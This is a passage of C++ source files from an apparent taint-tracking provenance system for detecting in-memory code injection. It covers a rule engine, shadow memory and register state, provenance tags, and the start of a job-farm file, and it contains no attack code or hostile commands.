}  // namespace faros::core
