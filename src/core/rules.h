// Declarative confluence-rule engine: the paper's "per security policy"
// invariants as data instead of hardcoded C++ paths. A RuleSpec names a
// trigger point in the DIFT hot path, a conjunction of predicates over the
// provenance visible at that point, and an action; the engine compiles the
// specs into per-trigger lists once and the hot path pays a single
// empty-list check per trigger it reaches.
//
// Triggers (where in engine.cpp dispatch can fire):
//  * tainted-load     — a load read at least one tainted byte
//  * tainted-store    — a store wrote a tainted value (or tainted address
//                       dependency, under propagate_address_deps)
//  * exec-page-write  — a store wrote a tainted value into an executable
//                       page (the staging-time early-warning site)
//  * tainted-fetch    — the executing instruction's own bytes are tainted
//  * syscall-arg      — a syscall issued with tainted argument registers
//
// Predicates (conjunction; subject is fetch / target / value provenance):
//  * "<subject> has-type:<netflow|process|file|export-table>"
//  * "<subject> process-count>=N"
//  * "<subject> distinct-netflows>=N"
//  * "page-flag:exec"
//
// Threshold caveat: the per-list distinct-process and distinct-netflow
// counts come from ProvStore metadata that saturates at 255
// (ProvStore::process_count / netflow_count). A rule with N > 255 can
// therefore never fire, and exactly-255 cannot be distinguished from
// more-than-255; keep thresholds at 255 or below (pinned by test).
//
// Actions: flag (normal finding), warn (recorded, never flips the
// verdict), suppress (a matching suppress rule cancels every flag/warn
// match of the same trigger evaluation — an analyst-authored,
// provenance-conditional exception, like the whitelist but data-driven).
//
// The three historical built-ins are expressed as specs (builtin_rules());
// default-constructed Options reproduce their behaviour exactly.
#pragma once

#include <array>
#include <memory>
#include <string>
#include <string_view>
#include <vector>

#include "common/result.h"
#include "core/policy.h"
#include "core/provenance.h"
#include "obs/obs.h"

namespace faros::core {

enum class Trigger : u8 {
  kTaintedLoad = 0,
  kTaintedStore,
  kExecPageWrite,
  kTaintedFetch,
  kSyscallArg,
};
inline constexpr u32 kTriggerCount = 5;

const char* trigger_name(Trigger t);
Result<Trigger> parse_trigger(std::string_view s);

/// Which provenance list a predicate inspects at the trigger point.
enum class Subject : u8 {
  kFetch = 0,  // the executing instruction's bytes
  kTarget,     // the bytes the access touched (pre-write union for stores)
  kValue,      // the value being moved (store: written value; load: result)
};

enum class RuleAction : u8 { kFlag = 0, kWarn, kSuppress };

const char* action_name(RuleAction a);
Result<RuleAction> parse_action(std::string_view s);

struct Predicate {
  enum class Kind : u8 {
    kHasType = 0,         // subject list contains a tag of `type`
    kProcessCountGe,      // >= n distinct process tags on subject
    kDistinctNetflowsGe,  // >= n distinct netflow tags on subject
    kPageFlagExec,        // the touched page is executable (no subject)
  };

  Kind kind = Kind::kHasType;
  Subject subject = Subject::kTarget;
  TagType type = TagType::kNetflow;  // kHasType only
  u32 n = 0;                         // threshold kinds only

  bool operator==(const Predicate&) const = default;
};

/// Renders a predicate in the grammar above ("fetch has-type:netflow").
std::string predicate_str(const Predicate& p);
Result<Predicate> parse_predicate(std::string_view s);

struct RuleSpec {
  std::string id;  // becomes Finding::policy on a match
  Trigger trigger = Trigger::kTaintedLoad;
  std::vector<Predicate> when;  // conjunction; empty = always matches
  RuleAction action = RuleAction::kFlag;

  bool operator==(const RuleSpec&) const = default;
};

/// The built-in rules for a given set of legacy policy toggles, in the
/// historical evaluation order. These are exactly the paper's invariants:
/// netflow-export-confluence, cross-process-export-confluence, and the
/// optional tainted-code-write early warning.
std::vector<RuleSpec> builtin_rules(bool netflow_export,
                                    bool cross_process_export,
                                    bool tainted_code_write);

/// Parses a policy file: {"rules":[{"id":...,"trigger":...,"action":...,
/// "when":[...]}]}. "action" defaults to "flag", "when" to []. Unknown
/// keys, duplicate ids and grammar errors are hard errors naming the rule.
Result<std::vector<RuleSpec>> parse_ruleset_json(std::string_view text);

/// Serialises a ruleset back into the policy-file schema (deterministic:
/// the same specs always produce the same bytes). parse(serialize(x)) == x.
std::string ruleset_json(const std::vector<RuleSpec>& rules);

/// Everything a trigger site hands to dispatch. Lists not meaningful at a
/// trigger stay kEmptyProv (e.g. value at tainted-fetch).
struct RuleInputs {
  ProvListId fetch = kEmptyProv;
  ProvListId target = kEmptyProv;
  ProvListId value = kEmptyProv;
  bool page_exec = false;
};

struct RuleStats {
  u64 evals = 0;
  u64 hits = 0;
};

/// Compiled rule set. Built once per engine; the hot path asks has_rules()
/// (one empty-vector test) before computing any trigger inputs, so
/// triggers with no rules bound cost nothing beyond that branch.
class RuleEngine {
 public:
  RuleEngine() = default;

  /// Replaces the spec-defined rules (native add_policy rules survive).
  void configure(const std::vector<RuleSpec>& specs);

  /// Host-code escape hatch: a FlagPolicy subclass evaluated at
  /// tainted-load with action=flag, exactly the pre-rules add_policy
  /// contract. Appended after the spec rules.
  void add_native(std::unique_ptr<FlagPolicy> policy);

  /// Binds the per-trigger eval counters (null sink unbinds).
  void bind_obs(obs::MetricSink* sink);

  /// Statically-proven-unreachable triggers (policy-aware pruning): bit
  /// `static_cast<u32>(Trigger)` set makes has_rules() report the trigger
  /// unbound, so the hot path skips its input computation entirely. Sound
  /// only while the proof holds — if a masked trigger's site fires anyway
  /// the dispatch it would have run is skipped, which skews the per-rule
  /// eval counters, which is exactly what the farm's prune-on/off
  /// byte-identical CI gate trips on. kTaintedFetch is never maskable
  /// (fetch of injected code is the system's reason to exist): its bit is
  /// cleared here unconditionally.
  void set_static_mask(u8 mask);
  u8 static_mask() const { return static_mask_; }

  bool has_rules(Trigger t) const {
    const u32 i = static_cast<u32>(t);
    return !(static_mask_ >> i & 1) && !index_[i].empty();
  }

  /// True when any rule on `t` inspects the value subject — lets trigger
  /// sites skip computing it (a ProvStore merge) when nothing will look.
  bool needs_value(Trigger t) const {
    return needs_value_[static_cast<u32>(t)];
  }
  /// True when any rule on `t` has a page-flag:exec predicate (the
  /// exec-page-write trigger implies it and never needs the query).
  bool needs_page_flags(Trigger t) const {
    return needs_page_flags_[static_cast<u32>(t)];
  }

  /// Evaluates every rule bound to `t` against `in`. Indices of matched
  /// flag/warn rules are appended to `matched` (cleared on entry) unless a
  /// suppress rule also matched, in which case `matched` stays empty.
  /// Returns the number of rules evaluated (for EngineStats::policy_evals).
  u32 dispatch(Trigger t, const ProvStore& store, const RuleInputs& in,
               std::vector<u32>& matched);

  size_t rule_count() const { return rules_.size(); }
  const std::string& rule_id(u32 idx) const { return rules_[idx].spec.id; }
  Trigger rule_trigger(u32 idx) const { return rules_[idx].spec.trigger; }
  RuleAction rule_action(u32 idx) const { return rules_[idx].spec.action; }
  const RuleStats& rule_stats(u32 idx) const { return rules_[idx].stats; }

  /// The effective specs (native rules rendered as empty-conjunction
  /// placeholders) — what --list-policies prints.
  std::vector<RuleSpec> specs() const;

 private:
  struct CompiledRule {
    RuleSpec spec;
    std::unique_ptr<FlagPolicy> native;  // set: spec.when is ignored
    RuleStats stats;
  };

  bool matches(const CompiledRule& r, const ProvStore& store,
               const RuleInputs& in) const;
  void rebuild_index();

  std::vector<CompiledRule> rules_;
  u8 static_mask_ = 0;
  std::array<std::vector<u32>, kTriggerCount> index_;
  std::array<bool, kTriggerCount> needs_value_{};
  std::array<bool, kTriggerCount> needs_page_flags_{};
  std::array<obs::Counter, kTriggerCount> eval_ctr_;
  obs::Counter match_ctr_;
};

}  // namespace faros::core
