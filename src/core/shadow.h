// Shadow state: per-physical-byte provenance for guest RAM, a per-process
// shadow register bank (byte-granular, 4 slots per 32-bit register), and a
// per-file byte shadow so provenance survives a round trip through the
// file system (paper Figure 4: ... -> written into File 1 -> read by
// Process 3).
#pragma once

#include <unordered_map>

#include "core/provenance.h"
#include "vm/isa.h"

namespace faros::core {

/// Sparse provenance map over guest physical memory. Only tainted bytes
/// occupy an entry; storing kEmptyProv erases.
class ShadowMemory {
 public:
  ProvListId get(PAddr pa) const {
    auto it = map_.find(pa);
    return it == map_.end() ? kEmptyProv : it->second;
  }

  void set(PAddr pa, ProvListId id) {
    if (id == kEmptyProv) {
      map_.erase(pa);
    } else {
      map_[pa] = id;
    }
  }

  void clear_range(PAddr pa, u64 len) {
    // Erase per byte; ranges are page sized at most in practice.
    for (u64 i = 0; i < len; ++i) map_.erase(pa + i);
  }

  void clear() { map_.clear(); }

  /// Number of tainted bytes (the overtainting metric of the ablation
  /// bench).
  u64 tainted_bytes() const { return map_.size(); }

  const std::unordered_map<PAddr, ProvListId>& entries() const {
    return map_;
  }

 private:
  std::unordered_map<PAddr, ProvListId> map_;
};

/// Byte-granular register shadow for one CPU context (one process).
class ShadowRegisters {
 public:
  ProvListId get(u8 reg, u8 byte) const { return regs_[reg][byte]; }
  void set(u8 reg, u8 byte, ProvListId id) { regs_[reg][byte] = id; }

  void clear_reg(u8 reg) {
    for (auto& b : regs_[reg]) b = kEmptyProv;
  }

  void set_all(u8 reg, ProvListId id) {
    for (auto& b : regs_[reg]) b = id;
  }

  /// Union of all four byte lists of a register (for ALU operand taint).
  ProvListId reg_union(u8 reg, ProvStore& store) const {
    ProvListId acc = kEmptyProv;
    for (ProvListId id : regs_[reg]) acc = store.merge(acc, id);
    return acc;
  }

  bool reg_tainted(u8 reg) const {
    for (ProvListId id : regs_[reg]) {
      if (id != kEmptyProv) return true;
    }
    return false;
  }

 private:
  ProvListId regs_[vm::kNumRegs][4] = {};
};

/// Per-segment byte provenance keyed by (segment id, offset): carries
/// provenance across the network stack for guest-to-guest (loopback)
/// transfers, the socket analogue of the file shadow.
class SegmentShadow {
 public:
  ProvListId get(u64 segment_id, u32 offset) const {
    auto it = map_.find(key(segment_id, offset));
    return it == map_.end() ? kEmptyProv : it->second;
  }

  void set(u64 segment_id, u32 offset, ProvListId id) {
    if (id == kEmptyProv) {
      map_.erase(key(segment_id, offset));
    } else {
      map_[key(segment_id, offset)] = id;
    }
  }

  u64 tainted_bytes() const { return map_.size(); }

 private:
  static u64 key(u64 segment_id, u32 offset) {
    return hash_combine(segment_id, offset);
  }

  std::unordered_map<u64, ProvListId> map_;
};

/// Per-file byte provenance keyed by (file id, offset).
class FileShadow {
 public:
  ProvListId get(u32 file_id, u32 offset) const {
    auto it = map_.find(key(file_id, offset));
    return it == map_.end() ? kEmptyProv : it->second;
  }

  void set(u32 file_id, u32 offset, ProvListId id) {
    if (id == kEmptyProv) {
      map_.erase(key(file_id, offset));
    } else {
      map_[key(file_id, offset)] = id;
    }
  }

  u64 tainted_bytes() const { return map_.size(); }

 private:
  static u64 key(u32 file_id, u32 offset) {
    return (static_cast<u64>(file_id) << 32) | offset;
  }

  std::unordered_map<u64, ProvListId> map_;
};

}  // namespace faros::core
