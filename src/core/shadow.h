// Shadow state: per-physical-byte provenance for guest RAM, a per-process
// shadow register bank (byte-granular, 4 slots per 32-bit register), and a
// per-file byte shadow so provenance survives a round trip through the
// file system (paper Figure 4: ... -> written into File 1 -> read by
// Process 3).
#pragma once

#include <array>
#include <memory>
#include <unordered_map>

#include "core/provenance.h"
#include "obs/obs.h"
#include "vm/isa.h"

namespace faros::core {

/// Provenance map over guest physical memory, laid out as a two-level,
/// lazily-allocated paged shadow (the software analogue of the dedicated
/// shadow structures hardware-DIFT designs use for cheap "no taint here"
/// checks):
///
///   directory:  frame number (pa >> 12)  ->  ShadowPage*
///   page:       flat ProvListId[4096] + a tainted-byte count
///
/// Pages exist only while they hold at least one tainted byte — the moment
/// the last tainted byte of a page is cleared (via set() or a partial
/// clear_range()) the page is dropped, so long replays cannot accumulate
/// dead pages and page_tainted() never probes an allocated-but-empty
/// frame. The overwhelmingly common case — an access to memory nothing
/// ever tainted — resolves to a single directory probe (and usually just a
/// one-entry frame-cache compare). The per-page count makes "is this page
/// clean?" O(1), which the engine exploits to skip per-byte work entirely
/// on instruction fetch and on loads/stores that stay inside a clean page,
/// and it lets clear_range()/frame recycling drop whole pages instead of
/// erasing byte by byte.
class ShadowMemory {
 public:
  static constexpr u32 kPageShift = 12;
  static constexpr u32 kPageBytes = 1u << kPageShift;  // == vm::kPageSize
  static constexpr u32 kPageMask = kPageBytes - 1;

  struct Page {
    std::array<ProvListId, kPageBytes> prov{};
    u32 tainted = 0;  // nonzero entries in prov
    /// Stamp of the last mutation, drawn from a store-wide monotonic
    /// epoch. Epochs are never reused (a recreated page gets a fresh,
    /// larger stamp), so "same version" safely means "bytes unchanged" —
    /// the invariant the engine's fetch-provenance cache relies on.
    u64 version = 0;
  };

  /// Hot-path read (cache-accelerated). A const overload below serves
  /// concurrent analyst readers without touching the frame cache.
  ProvListId get(PAddr pa) {
    Page* p = lookup(pa >> kPageShift);
    return p ? p->prov[pa & kPageMask] : kEmptyProv;
  }

  ProvListId get(PAddr pa) const {
    auto it = dir_.find(pa >> kPageShift);
    return it == dir_.end() ? kEmptyProv
                            : it->second->prov[pa & kPageMask];
  }

  void set(PAddr pa, ProvListId id) {
    const u64 frame = pa >> kPageShift;
    Page* p = lookup(frame);
    if (!p) {
      if (id == kEmptyProv) return;  // clearing an untracked byte: no-op
      p = add_page(frame);
    }
    ProvListId& slot = p->prov[pa & kPageMask];
    if (slot == id) return;  // no semantic change: skip the version bump
    if (slot == kEmptyProv) {
      ++p->tainted;
      ++total_tainted_;
    } else if (id == kEmptyProv) {
      --p->tainted;
      --total_tainted_;
      if (p->tainted == 0) {
        // Last tainted byte of the page cleared: drop the page rather than
        // leaving an all-empty Page resident forever. The version stamp
        // dies with the page; a recreated page draws a fresh, strictly
        // larger epoch, so the never-reused-stamp invariant holds.
        drop_page(frame);
        return;
      }
    }
    slot = id;
    p->version = ++epoch_;
  }

  /// O(1): does the page containing `pa` hold any tainted byte?
  bool page_tainted(PAddr pa) {
    Page* p = lookup(pa >> kPageShift);
    return p && p->tainted != 0;
  }

  /// Mutation stamp of the page containing `pa` (0 when no page exists).
  /// Two equal nonzero stamps guarantee the page bytes are unchanged.
  u64 page_version(PAddr pa) {
    Page* p = lookup(pa >> kPageShift);
    return p ? p->version : 0;
  }

  /// Any tainted byte in [pa, pa+len)? Assumes the range is physically
  /// contiguous (instruction fetch); O(pages overlapped), i.e. one or two
  /// probes for an 8-byte fetch. A range running past the top of the
  /// physical address space is clamped to it (no u64 wraparound).
  bool range_tainted(PAddr pa, u64 len) {
    if (len == 0) return false;
    if (total_tainted_ == 0) {
      clean_skip_.inc();
      return false;
    }
    u64 f0 = pa >> kPageShift;
    u64 f1 = last_byte(pa, len) >> kPageShift;
    for (u64 f = f0; f <= f1; ++f) {
      Page* p = lookup(f);
      if (p && p->tainted != 0) return true;
    }
    return false;
  }

  void clear_range(PAddr pa, u64 len) {
    if (len == 0 || total_tainted_ == 0) return;
    const PAddr last = last_byte(pa, len);
    u64 f0 = pa >> kPageShift;
    u64 f1 = last >> kPageShift;
    for (u64 f = f0; f <= f1; ++f) {
      auto it = dir_.find(f);
      if (it == dir_.end()) continue;
      u32 lo = f == f0 ? static_cast<u32>(pa & kPageMask) : 0;
      u32 hi = f == f1 ? static_cast<u32>(last & kPageMask) + 1 : kPageBytes;
      Page& p = *it->second;
      if (lo == 0 && hi == kPageBytes) {
        total_tainted_ -= p.tainted;  // page-level drop, no per-byte walk
      } else {
        bool changed = false;
        for (u32 o = lo; o < hi && p.tainted != 0; ++o) {
          ProvListId& slot = p.prov[o];
          if (slot != kEmptyProv) {
            slot = kEmptyProv;
            --p.tainted;
            --total_tainted_;
            changed = true;
          }
        }
        if (p.tainted != 0) {
          if (changed) p.version = ++epoch_;
          continue;
        }
      }
      if (cache_key_ == f + 1) cache_page_ = nullptr;
      dir_.erase(it);
      page_drop_.inc();
    }
  }

  void clear() {
    page_drop_.inc(dir_.size());
    dir_.clear();
    total_tainted_ = 0;
    cache_key_ = 0;
    cache_page_ = nullptr;
  }

  /// Binds the hot-path counters to `sink` (null unbinds). Counting sites:
  /// the frame-cache probe, page allocation/drop, and the global
  /// zero-taint skip in range_tainted().
  void bind_obs(obs::MetricSink* sink) {
    frame_hit_ = {sink, obs::Ctr::kShadowFrameCacheHit};
    frame_miss_ = {sink, obs::Ctr::kShadowFrameCacheMiss};
    page_alloc_ = {sink, obs::Ctr::kShadowPageAlloc};
    page_drop_ = {sink, obs::Ctr::kShadowPageDrop};
    clean_skip_ = {sink, obs::Ctr::kShadowCleanSkip};
  }

  /// Number of tainted bytes (the overtainting metric of the ablation
  /// bench). O(1): maintained incrementally.
  u64 tainted_bytes() const { return total_tainted_; }

  /// Number of shadow pages currently allocated (residency metric).
  u64 pages() const { return dir_.size(); }

  /// Calls fn(PAddr, ProvListId) for every tainted byte. Page order is
  /// unspecified (directory order); offsets within a page are ascending.
  template <typename Fn>
  void for_each_tainted(Fn&& fn) const {
    for (const auto& [frame, page] : dir_) {
      PAddr base = static_cast<PAddr>(frame) << kPageShift;
      u32 remaining = page->tainted;
      for (u32 o = 0; o < kPageBytes && remaining != 0; ++o) {
        ProvListId id = page->prov[o];
        if (id != kEmptyProv) {
          fn(base + o, id);
          --remaining;
        }
      }
    }
  }

 private:
  /// Last byte of [pa, pa+len), clamped to the top of the address space so
  /// a range ending at (or crossing) 2^64 never wraps to a small frame
  /// number and silently skips — the end-of-RAM recycle case. len >= 1.
  static PAddr last_byte(PAddr pa, u64 len) {
    PAddr last = pa + (len - 1);
    return last < pa ? ~static_cast<PAddr>(0) : last;
  }

  /// Directory probe through a one-entry frame cache. Caching "no page"
  /// (nullptr) is deliberate: a clean-memory workload then resolves every
  /// fetch/load/store probe to a single integer compare. cache_key_ holds
  /// frame+1 so 0 means "empty cache".
  Page* lookup(u64 frame) {
    if (cache_key_ == frame + 1) {
      frame_hit_.inc();
      return cache_page_;
    }
    frame_miss_.inc();
    auto it = dir_.find(frame);
    Page* p = it == dir_.end() ? nullptr : it->second.get();
    cache_key_ = frame + 1;
    cache_page_ = p;
    return p;
  }

  Page* add_page(u64 frame) {
    auto& slot = dir_[frame];
    slot = std::make_unique<Page>();
    if (cache_key_ == frame + 1) cache_page_ = slot.get();
    page_alloc_.inc();
    return slot.get();
  }

  /// Frees the (empty) page of `frame`; downgrades a cached positive probe
  /// to a cached absence so the frame cache never dangles.
  void drop_page(u64 frame) {
    if (cache_key_ == frame + 1) cache_page_ = nullptr;
    dir_.erase(frame);
    page_drop_.inc();
  }

  // unique_ptr values keep Page* stable across directory rehash, so the
  // frame cache survives inserts of other frames.
  std::unordered_map<u64, std::unique_ptr<Page>> dir_;
  u64 total_tainted_ = 0;
  u64 epoch_ = 0;  // monotonic mutation counter; never reset (no ABA)
  u64 cache_key_ = 0;  // frame+1 of the cached probe; 0 = invalid
  Page* cache_page_ = nullptr;

  // obs counters (no-ops until bind_obs); see the class comment in obs.h
  // for the branch-on-null cost model.
  obs::Counter frame_hit_;
  obs::Counter frame_miss_;
  obs::Counter page_alloc_;
  obs::Counter page_drop_;
  obs::Counter clean_skip_;
};

/// Byte-granular register shadow for one CPU context (one process).
class ShadowRegisters {
 public:
  ProvListId get(u8 reg, u8 byte) const { return regs_[reg][byte]; }
  void set(u8 reg, u8 byte, ProvListId id) {
    ProvListId& slot = regs_[reg][byte];
    tainted_ += static_cast<u32>(id != kEmptyProv) -
                static_cast<u32>(slot != kEmptyProv);
    slot = id;
  }

  void clear_reg(u8 reg) {
    for (auto& b : regs_[reg]) {
      if (b != kEmptyProv) --tainted_;
      b = kEmptyProv;
    }
  }

  void set_all(u8 reg, ProvListId id) {
    for (auto& b : regs_[reg]) {
      tainted_ += static_cast<u32>(id != kEmptyProv) -
                  static_cast<u32>(b != kEmptyProv);
      b = id;
    }
  }

  /// O(1): no register byte carries provenance. The block-elision guard —
  /// with a fully clean bank, every taint-inert instruction's register
  /// effect is a no-op (clears of clean registers, copies/unions of empty
  /// lists), so the whole bank check substitutes for per-insn propagation.
  bool clean() const { return tainted_ == 0; }

  /// Union of all four byte lists of a register (for ALU operand taint).
  ProvListId reg_union(u8 reg, ProvStore& store) const {
    const ProvListId* b = regs_[reg];
    if ((b[0] | b[1] | b[2] | b[3]) == kEmptyProv) return kEmptyProv;
    ProvListId acc = b[0];
    for (int i = 1; i < 4; ++i) acc = store.merge(acc, b[i]);
    return acc;
  }

  bool reg_tainted(u8 reg) const {
    const ProvListId* b = regs_[reg];
    return (b[0] | b[1] | b[2] | b[3]) != kEmptyProv;
  }

 private:
  ProvListId regs_[vm::kNumRegs][4] = {};
  u32 tainted_ = 0;  // nonzero entries in regs_
};

/// Per-segment byte provenance keyed by (segment id, offset): carries
/// provenance across the network stack for guest-to-guest (loopback)
/// transfers, the socket analogue of the file shadow.
class SegmentShadow {
 public:
  ProvListId get(u64 segment_id, u32 offset) const {
    auto it = map_.find(key(segment_id, offset));
    return it == map_.end() ? kEmptyProv : it->second;
  }

  void set(u64 segment_id, u32 offset, ProvListId id) {
    if (id == kEmptyProv) {
      map_.erase(key(segment_id, offset));
    } else {
      map_[key(segment_id, offset)] = id;
    }
  }

  u64 tainted_bytes() const { return map_.size(); }

 private:
  static u64 key(u64 segment_id, u32 offset) {
    return hash_combine(segment_id, offset);
  }

  std::unordered_map<u64, ProvListId> map_;
};

/// Per-file byte provenance keyed by (file id, offset).
class FileShadow {
 public:
  ProvListId get(u32 file_id, u32 offset) const {
    auto it = map_.find(key(file_id, offset));
    return it == map_.end() ? kEmptyProv : it->second;
  }

  void set(u32 file_id, u32 offset, ProvListId id) {
    if (id == kEmptyProv) {
      map_.erase(key(file_id, offset));
    } else {
      map_[key(file_id, offset)] = id;
    }
  }

  u64 tainted_bytes() const { return map_.size(); }

 private:
  static u64 key(u32 file_id, u32 offset) {
    return (static_cast<u64>(file_id) << 32) | offset;
  }

  std::unordered_map<u64, ProvListId> map_;
};

}  // namespace faros::core
