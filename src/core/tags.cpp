#include "core/tags.h"

#include <cassert>

namespace faros::core {

const char* tag_type_name(TagType t) {
  switch (t) {
    case TagType::kNetflow: return "NetFlow";
    case TagType::kProcess: return "Process";
    case TagType::kFile: return "File";
    case TagType::kExportTable: return "ExportTable";
  }
  return "?";
}

std::optional<ProvTag> ProvTag::unpack(const u8 in[3]) {
  if (in[0] < 1 || in[0] > 4) return std::nullopt;
  return ProvTag(static_cast<TagType>(in[0]),
                 static_cast<u16>(in[1] | (in[2] << 8)));
}

namespace {
u64 flow_key(const FlowTuple& f) {
  u64 k = hash_combine(f.src_ip, f.dst_ip);
  k = hash_combine(k, (static_cast<u64>(f.src_port) << 16) | f.dst_port);
  return k;
}
}  // namespace

u16 NetflowMap::intern(const FlowTuple& flow) {
  u64 key = flow_key(flow);
  auto it = lookup_.find(key);
  if (it != lookup_.end()) return it->second;
  assert(flows_.size() < 0x10000);
  u16 index = static_cast<u16>(flows_.size());
  flows_.push_back(flow);
  lookup_[key] = index;
  return index;
}

const FlowTuple& NetflowMap::get(u16 index) const {
  assert(index < flows_.size());
  return flows_[index];
}

u16 ProcessMap::intern(PAddr cr3, u32 pid, const std::string& name) {
  auto it = by_cr3_.find(cr3);
  // CR3 values are physical frame addresses and can be recycled by later
  // processes: only reuse the entry when the pid also matches. The stale
  // entry is kept (historical provenance still renders its name); the map
  // now points at the newest holder of the CR3.
  if (it != by_cr3_.end() && entries_[it->second].pid == pid) {
    return it->second;
  }
  assert(entries_.size() < 0x10000);
  u16 index = static_cast<u16>(entries_.size());
  entries_.push_back(Entry{cr3, pid, name});
  by_cr3_[cr3] = index;
  return index;
}

const ProcessMap::Entry& ProcessMap::get(u16 index) const {
  assert(index < entries_.size());
  return entries_[index];
}

std::optional<u16> ProcessMap::find_by_cr3(PAddr cr3) const {
  auto it = by_cr3_.find(cr3);
  if (it == by_cr3_.end()) return std::nullopt;
  return it->second;
}

u16 FileMap::intern(u32 file_id, u32 version, const std::string& name) {
  u64 key = (static_cast<u64>(file_id) << 32) | version;
  auto it = lookup_.find(key);
  if (it != lookup_.end()) return it->second;
  assert(entries_.size() < 0x10000);
  u16 index = static_cast<u16>(entries_.size());
  entries_.push_back(Entry{file_id, version, name});
  lookup_[key] = index;
  return index;
}

const FileMap::Entry& FileMap::get(u16 index) const {
  assert(index < entries_.size());
  return entries_[index];
}

std::string TagMaps::describe(ProvTag tag) const {
  switch (tag.type()) {
    case TagType::kNetflow:
      return std::string(tag_type_name(tag.type())) + ": " +
             netflow.get(tag.index()).to_string();
    case TagType::kProcess:
      return std::string(tag_type_name(tag.type())) + ": " +
             process.get(tag.index()).name;
    case TagType::kFile: {
      const auto& e = file.get(tag.index());
      return std::string(tag_type_name(tag.type())) + ": " + e.name + " (v" +
             std::to_string(e.version) + ")";
    }
    case TagType::kExportTable: return tag_type_name(tag.type());
  }
  return "?";
}

}  // namespace faros::core
