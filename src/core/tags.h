// FAROS provenance tags (paper Section V-A, Figures 5 and 6).
//
// A prov_tag is 3 bytes: one byte of tag type and a 16-bit index into the
// per-type hash map that holds the tag's payload:
//   netflow -> the flow 4-tuple          (Netflow hash map)
//   process -> the CR3 value (+ name)    (Process hash map)
//   file    -> file name + access version (File hash map)
//   export-table -> no payload (index 0), exactly as in the paper, which
//   notes the current implementation "does not incorporate a hash map for
//   export table activity".
#pragma once

#include <optional>
#include <string>
#include <unordered_map>
#include <vector>

#include "common/flow.h"
#include "common/hash.h"
#include "common/types.h"

namespace faros::core {

enum class TagType : u8 {
  kNetflow = 1,
  kProcess = 2,
  kFile = 3,
  kExportTable = 4,
};

const char* tag_type_name(TagType t);

/// The packed 3-byte tag (paper Figure 6). Stored here as a value type;
/// pack()/unpack() produce the canonical byte layout.
class ProvTag {
 public:
  ProvTag() = default;
  ProvTag(TagType type, u16 index) : type_(type), index_(index) {}

  static ProvTag netflow(u16 index) { return {TagType::kNetflow, index}; }
  static ProvTag process(u16 index) { return {TagType::kProcess, index}; }
  static ProvTag file(u16 index) { return {TagType::kFile, index}; }
  static ProvTag export_table() { return {TagType::kExportTable, 0}; }

  TagType type() const { return type_; }
  u16 index() const { return index_; }

  /// Canonical 3-byte form: [type][index lo][index hi].
  void pack(u8 out[3]) const {
    out[0] = static_cast<u8>(type_);
    out[1] = static_cast<u8>(index_ & 0xff);
    out[2] = static_cast<u8>(index_ >> 8);
  }
  static std::optional<ProvTag> unpack(const u8 in[3]);

  /// Dense 32-bit key for hashing.
  u32 key() const {
    return (static_cast<u32>(type_) << 16) | index_;
  }

  bool operator==(const ProvTag&) const = default;

 private:
  TagType type_ = TagType::kNetflow;
  u16 index_ = 0;
};

/// Netflow hash map: index <-> flow tuple.
class NetflowMap {
 public:
  /// Returns the tag index for `flow`, interning it if new.
  u16 intern(const FlowTuple& flow);
  const FlowTuple& get(u16 index) const;
  size_t size() const { return flows_.size(); }

 private:
  std::vector<FlowTuple> flows_;
  std::unordered_map<u64, u16> lookup_;
};

/// Process hash map: index <-> CR3 (plus the image name for reports).
class ProcessMap {
 public:
  struct Entry {
    PAddr cr3 = 0;
    u32 pid = 0;
    std::string name;
  };

  u16 intern(PAddr cr3, u32 pid, const std::string& name);
  const Entry& get(u16 index) const;
  std::optional<u16> find_by_cr3(PAddr cr3) const;
  size_t size() const { return entries_.size(); }

 private:
  std::vector<Entry> entries_;
  std::unordered_map<u64, u16> by_cr3_;
};

/// File hash map: index <-> (file id, name, access version). A new version
/// of the same file interns as a new tag, per the paper's file-tag design.
class FileMap {
 public:
  struct Entry {
    u32 file_id = 0;
    u32 version = 0;
    std::string name;
  };

  u16 intern(u32 file_id, u32 version, const std::string& name);
  const Entry& get(u16 index) const;
  size_t size() const { return entries_.size(); }

 private:
  std::vector<Entry> entries_;
  std::unordered_map<u64, u16> lookup_;
};

/// All three maps plus rendering helpers.
struct TagMaps {
  NetflowMap netflow;
  ProcessMap process;
  FileMap file;

  /// "NetFlow: {...}" / "Process: notepad.exe" / "File: C:/x (v2)" /
  /// "ExportTable" — the building block of Table-II output.
  std::string describe(ProvTag tag) const;
};

}  // namespace faros::core
