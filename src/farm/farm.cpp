#include "farm/farm.h"

#include <algorithm>
#include <chrono>
#include <cstdio>
#include <filesystem>

#include "core/pipeline.h"
#include "graph/graph.h"
#include "os/snapshot.h"
#include "sa/analyzer.h"
#include "vm/btcache.h"
#include "vm/trace_ring.h"

namespace faros::farm {

namespace {

using Clock = std::chrono::steady_clock;

/// Per-job watchdog: aborts the run on farm cancellation or when the
/// wall-clock deadline passes. Polled between scheduling rounds (~quantum
/// instructions), so a runaway guest is stopped within one round.
///
/// The *first* reason to fire is latched: the job's terminal status must be
/// decided by what actually stopped the run, not by re-reading cancel_
/// after the fact (a deadline abort racing a request_cancel() would
/// otherwise misreport kTimeout as kCancelled).
class Watchdog final : public os::RunGovernor {
 public:
  enum class Reason { kNone, kCancel, kDeadline };

  Watchdog(const std::atomic<bool>& cancel, Clock::time_point deadline,
           bool has_deadline)
      : cancel_(cancel), deadline_(deadline), has_deadline_(has_deadline) {}

  bool should_stop() override {
    if (reason_ != Reason::kNone) return true;
    if (cancel_.load(std::memory_order_relaxed)) {
      reason_ = Reason::kCancel;
      return true;
    }
    if (has_deadline_ && Clock::now() >= deadline_) {
      reason_ = Reason::kDeadline;
      return true;
    }
    return false;
  }

  bool cancelled() const { return reason_ == Reason::kCancel; }

 private:
  const std::atomic<bool>& cancel_;
  Clock::time_point deadline_;
  bool has_deadline_;
  Reason reason_ = Reason::kNone;
};

/// Filesystem-safe artifact name: job names can carry '/' and other
/// separators; anything outside [A-Za-z0-9._-] becomes '_'.
std::string sanitize_name(const std::string& name) {
  std::string out = name;
  for (char& c : out) {
    bool ok = (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') ||
              (c >= '0' && c <= '9') || c == '.' || c == '_' || c == '-';
    if (!ok) c = '_';
  }
  return out;
}

double percentile(std::vector<double>& sorted, double p) {
  if (sorted.empty()) return 0;
  size_t idx = static_cast<size_t>(p * static_cast<double>(sorted.size() - 1));
  return sorted[idx];
}

/// Extra-policy verdict summary from the engine that evaluated the set.
JobResult::PolicyRun policy_run_of(const std::string& name,
                                   const core::FarosEngine& e) {
  JobResult::PolicyRun pr;
  pr.name = name;
  pr.flagged = e.flagged();
